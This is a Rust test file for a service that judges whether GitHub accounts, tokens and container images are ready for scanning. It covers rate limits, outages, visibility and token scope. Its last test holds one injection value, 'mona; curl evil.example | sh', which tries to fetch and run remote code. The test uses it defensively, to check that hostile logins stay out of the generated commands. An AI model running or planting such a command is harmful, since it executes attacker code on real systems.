//! Nothing is ready that is not proven, and nobody is blamed who is not at fault.

use super::image::{answered, denied_at_the_exchange, found, registry};
use super::namespace::{in_organization, listing, refused_listing};
use super::*;
use crate::gather::evidence::{Pull, RegistryEvidence, Versions};
use ghcr_contract::Visibility;

fn verdict(request: &ValidateRequest, evidence: &Evidence) -> (Verdict, Option<CheckCode>) {
    Verdict::of(&judged(request, evidence))
}

fn of_image(image: &str, with_token: Pull, anonymous: Pull) -> RegistryEvidence {
    RegistryEvidence { image: Some(image.parse().unwrap()), ..registry(with_token, anonymous) }
}

#[test]
fn another_accounts_image_proves_nothing() {
    let others = |with_token, anonymous| of_image("else/app:1", with_token, anonymous);
    let stranger = Evidence {
        account: Some(account("octo-org", "Organization")),
        registry: others(Pull::default(), found()),
        ..Evidence::default()
    };
    let open = |code| (Verdict::Inconclusive, Some(code));
    let without_token = request("octo-org", None);
    assert_eq!(verdict(&without_token, &stranger), open(CheckCode::ImageAnonymous));
    let checks = judged(&without_token, &stranger);
    assert_eq!(rung(&checks, CheckCode::ImageAnonymous), (Outcome::Warn, Some(Cause::OtherOwner)));

    let hidden = Evidence {
        org_packages: refused_listing(&Answer::refused(404, "Not Found")),
        registry: others(found(), answered(403)),
        ..in_organization()
    };
    assert_eq!(verdict(&classic("octo-org"), &hidden), open(CheckCode::PackagesList));
    let listed = Evidence { registry: others(found(), found()), ..in_organization() };
    let warned = (Verdict::ReadyWithWarnings, Some(CheckCode::ImagePull));
    assert_eq!(verdict(&classic("octo-org"), &listed), warned, "the list proves the account");
}

#[test]
fn an_outsider_is_warned_alike_whether_github_tells_it_or_not() {
    let told = Answer::refused(404, "Not Found");
    let untold = Answer::refused(403, "You need at least read:org scope");
    let of = |membership: &Answer<_>, packages| Evidence {
        membership: Some(membership.clone()),
        org_packages: packages,
        ..in_organization()
    };
    for (membership, code) in
        [(&told, CheckCode::OrgMembership), (&untold, CheckCode::PackagesVisibility)]
    {
        let warned = (Verdict::ReadyWithWarnings, Some(code));
        let evidence = of(membership, listing(2, 0, 0));
        assert_eq!(verdict(&classic("octo-org"), &evidence), warned);
        let public =
            ValidateRequest { visibility: Some(Visibility::Public), ..classic("octo-org") };
        let policy = Policy::default().up_to(Visibility::Public);
        let checks = judged_by(&public, &evidence, &policy);
        let visibility = rung(&checks, CheckCode::PackagesVisibility);
        assert_eq!(visibility, (Outcome::Pass, None), "internal images are not wanted");
    }
    let member = of(&untold, listing(2, 1, 0));
    assert_eq!(verdict(&classic("octo-org"), &member), (Verdict::Ready, None));
}

#[test]
fn a_pull_that_needs_the_token_shows_who_is_inside() {
    let membership = Some(Answer::refused(403, "You need at least read:org scope"));
    let org_packages = listing(2, 0, 0);
    let registry = of_image("octo-org/hidden:1", found(), answered(403));
    let evidence = Evidence { membership, org_packages, registry, ..in_organization() };
    let checks = judged(&classic("octo-org"), &evidence);
    assert_eq!(rung(&checks, CheckCode::PackagesVisibility), (Outcome::Pass, None));
}

/// A user's image that is not public is private; an organisation's may be internal.
#[test]
fn an_image_that_no_list_has_may_be_private() {
    let outage = || refused_listing(&Answer::refused(502, "Server Error"));
    let own =
        Evidence { user_packages: outage(), registry: registry(found(), answered(403)), ..good() };
    let checks = judged(&classic("mona"), &own);
    let private = (Outcome::Fail, Some(Cause::ImageNotSupported));
    assert_eq!(rung(&checks, CheckCode::ImagePull), private);
    assert!(checks.iter().all(|check| !check.evidence.proves_access), "it will not be scanned");
    let of_org = Evidence {
        org_packages: outage(),
        registry: of_image("octo-org/app:1", found(), answered(403)),
        ..in_organization()
    };
    let warned = (Verdict::ReadyWithWarnings, Some(CheckCode::ImagePull));
    assert_eq!(verdict(&classic("octo-org"), &of_org), warned);
    let public_only = Policy::default().up_to(Visibility::Public);
    let checks = judged_by(&classic("octo-org"), &of_org, &public_only);
    assert_eq!(rung(&checks, CheckCode::ImagePull).0, Outcome::Fail);
}

#[test]
fn a_pull_without_the_token_that_is_not_answered_shows_no_visibility() {
    // The list has packages that are scanned, and not this one.
    let own = |anonymous| Evidence {
        user_packages: listing(1, 0, 0),
        registry: registry(found(), anonymous),
        ..good()
    };
    let of_org = |anonymous| Evidence {
        registry: of_image("octo-org/app:1", found(), anonymous),
        ..in_organization()
    };
    let warned = (Verdict::ReadyWithWarnings, Some(CheckCode::ImagePull));
    let untold = (Outcome::Warn, Some(Cause::VisibilityNotTold));
    let mut all = Policy::default();
    all.supported.push(Visibility::Private);
    let limited = Pull { exchange: Some(Answer::refused(429, "too many")), ..Pull::default() };
    let unanswered = [limited, answered(429), answered(503), Pull::default()];
    for anonymous in unanswered {
        let checks = judged_by(&classic("mona"), &own(anonymous.clone()), &all);
        assert_eq!(rung(&checks, CheckCode::ImagePull), (Outcome::Pass, None), "all are scanned");
        for (login, evidence) in [("mona", own(anonymous.clone())), ("octo-org", of_org(anonymous))]
        {
            let checks = judged(&classic(login), &evidence);
            assert_eq!(rung(&checks, CheckCode::ImagePull), untold, "{login}");
            assert_eq!(Verdict::of(&checks), warned, "{login}");
        }
    }
    let ready = (Verdict::Ready, None);
    assert_eq!(verdict(&classic("mona"), &own(found())), ready, "it is given to everybody");
}

#[test]
fn whoever_asks_for_internal_images_without_a_token_is_warned() {
    let evidence = Evidence {
        account: Some(account("mona", "User")),
        registry: registry(Pull::default(), found()),
        ..Evidence::default()
    };
    let of =
        |visibility| verdict(&ValidateRequest { visibility, ..request("mona", None) }, &evidence);
    assert_eq!(of(None), (Verdict::Ready, None));
    assert_eq!(of(Some(Visibility::Public)), (Verdict::Ready, None));
    let warned = (Verdict::ReadyWithWarnings, Some(CheckCode::PackagesVisibility));
    assert_eq!(of(Some(Visibility::Internal)), warned);
}

#[test]
fn an_image_without_latest_is_open_where_its_versions_are_not_told() {
    let of = |versions| Evidence {
        org_packages: listing(3, 0, 0),
        registry: RegistryEvidence {
            versions,
            ..of_image("octo-org/app-1", answered(404), answered(404))
        },
        ..in_organization()
    };
    let request = ValidateRequest { image: "octo-org/app-1".parse().ok(), ..classic("octo-org") };
    let rung_of = |evidence| rung(&judged(&request, &evidence), CheckCode::ImagePull);
    let outage = Answer::refused(502, "Server Error");
    assert_eq!(rung_of(of(Some(outage))), (Outcome::Unknown, Some(Cause::GithubOutage)));
    let cut = Evidence { cut_short: Some(Cause::TimedOut), ..of(None) };
    assert_eq!(rung_of(cut), (Outcome::Unknown, Some(Cause::TimedOut)));
    let none = Answer::github(200, Body::Value(Versions(Vec::new())));
    assert_eq!(rung_of(of(Some(none))), (Outcome::Fail, Some(Cause::ManifestUnknown)));
}

#[test]
fn what_is_not_chosen_can_be_chosen() {
    let policy = Policy::default().up_to(Visibility::Public);
    let hosts = Hosts::github();
    let request = classic("octo-org");
    let evidence = Evidence { org_packages: listing(0, 2, 0), ..in_organization() };
    let supported = &Policy::default();
    let inputs = Inputs {
        request: &request,
        evidence: &evidence,
        policy: &policy,
        supported,
        hosts: &hosts,
        now: NOW,
    };
    let mut ladder = Ladder::default();
    ladder.climb(&inputs, Stage::Pull);
    let checks = ladder.into_checks();
    let visibility = rung(&checks, CheckCode::PackagesVisibility);
    assert_eq!(visibility, (Outcome::Fail, Some(Cause::NotChosen)));
}

#[test]
fn somebody_elses_token_is_judged_by_what_it_can_pull() {
    use Outcome::{Fail, Warn};
    let hubot = |packages, registry| Evidence {
        account: Some(account("hubot", "User")),
        user_packages: packages,
        registry,
        ..good()
    };
    let own = |with_token, anonymous| of_image("hubot/app:1", with_token, anonymous);
    let none = RegistryEvidence::default;
    let differs = Some(Cause::OwnerDiffers);
    let table = [
        (hubot(listing(0, 0, 0), none()), (Fail, differs), Verdict::Blocked),
        (hubot(listing(2, 0, 0), none()), (Warn, differs), Verdict::ReadyWithWarnings),
        (
            hubot(listing(0, 0, 0), own(found(), answered(403))),
            (Warn, differs),
            Verdict::ReadyWithWarnings,
        ),
        (
            hubot(listing(0, 0, 0), own(denied_at_the_exchange(), answered(403))),
            (Warn, differs),
            Verdict::Blocked,
        ),
    ];
    let mut policy = Policy::default();
    policy.supported.push(Visibility::Private);
    for (evidence, ending, verdict) in table {
        let checks = judged_by(&classic("hubot"), &evidence, &policy);
        assert_eq!(rung(&checks, CheckCode::AccountOwner), ending);
        assert_eq!(Verdict::of(&checks).0, verdict);
    }
    let refused = hubot(listing(0, 0, 0), own(answered(403), answered(403)));
    let checks = judged(&classic("hubot"), &refused);
    assert_eq!(rung(&checks, CheckCode::ImagePull), (Fail, differs));
    let down = hubot(refused_listing(&Answer::refused(502, "Server Error")), none());
    let checks = judged(&classic("hubot"), &down);
    assert_eq!(rung(&checks, CheckCode::AccountOwner), (Warn, differs), "an outage proves nothing");
}

#[test]
fn a_classic_token_without_any_scope_lacks_the_scope_and_not_the_list() {
    let silent = |packages| Evidence {
        token_user: Some(account("mona", "User")),
        user_packages: packages,
        ..good()
    };
    let refusal = Answer::refused(403, "You need at least read:packages scope to list packages.");
    let checks = judged(&classic("mona"), &silent(refused_listing(&refusal)));
    assert_eq!(Verdict::of(&checks), (Verdict::Blocked, Some(CheckCode::TokenScope)));
    let missing = (Outcome::Fail, Some(Cause::ReadPackagesMissing));
    assert_eq!(rung(&checks, CheckCode::TokenScope), missing);
    let checks = judged(&classic("mona"), &silent(listing(1, 0, 0)));
    let passed = (Outcome::Pass, None);
    assert_eq!(rung(&checks, CheckCode::TokenScope), passed, "the list shows that it has it");
    let outage = Answer::refused(502, "Server Error");
    let checks = judged(&classic("mona"), &silent(refused_listing(&outage)));
    let untold = (Outcome::Unknown, Some(Cause::ScopesNotTold));
    assert_eq!(rung(&checks, CheckCode::TokenScope), untold);
}

#[test]
fn the_hourly_limit_of_the_service_leaves_a_public_image_to_the_registry() {
    let limited = || {
        Answer::refused(403, "API rate limit exceeded").head(|it| it.ratelimit_remaining = Some(0))
    };
    let of = |registry| Evidence { account: Some(limited()), registry, ..Evidence::default() };
    let public = of(registry(Pull::default(), found()));
    assert_eq!(verdict(&request("mona", None), &public), (Verdict::Ready, None));
    let nothing = of(RegistryEvidence::default());
    let open = (Verdict::Inconclusive, Some(CheckCode::GithubReachable));
    assert_eq!(verdict(&request("mona", None), &nothing), open);
    let limited_token = Evidence { token_user: Some(limited()), ..Evidence::default() };
    let checks = judged(&classic("mona"), &limited_token);
    assert_eq!(
        rung(&checks, CheckCode::GithubReachable),
        (Outcome::Fail, Some(Cause::RateLimited)),
        "the owner's own hour is another matter"
    );
}

#[test]
fn the_services_own_queue_is_not_githubs_slowness() {
    for cause in [Cause::TimedOut, Cause::ServiceBusy] {
        let evidence = Evidence { cut_short: Some(cause), ..good() };
        let checks = judged(&classic("mona"), &evidence);
        assert_eq!(rung(&checks, CheckCode::ImagePull), (Outcome::Unknown, Some(cause)));
    }
}

#[test]
fn a_login_that_is_none_is_put_into_no_line() {
    let odd = "mona; curl evil.example | sh";
    let evidence = Evidence {
        token_user: Some(accepted(odd, "read:packages")),
        account: Some(account("octo-org", "Organization")),
        org_packages: listing(1, 0, 0),
        registry: of_image("octo-org/app:1", denied_at_the_exchange(), answered(403)),
        ..good()
    };
    let checks = judged(&classic("octo-org"), &evidence);
    let pull = checks.iter().find(|it| it.code == CheckCode::ImagePull).unwrap();
    assert_eq!(
        pull.reproduce,
        [
            "printf %s \"$TOKEN\" | crane auth login ghcr.io -u octo-org --password-stdin",
            "crane digest ghcr.io/octo-org/app:1",
        ]
    );
}
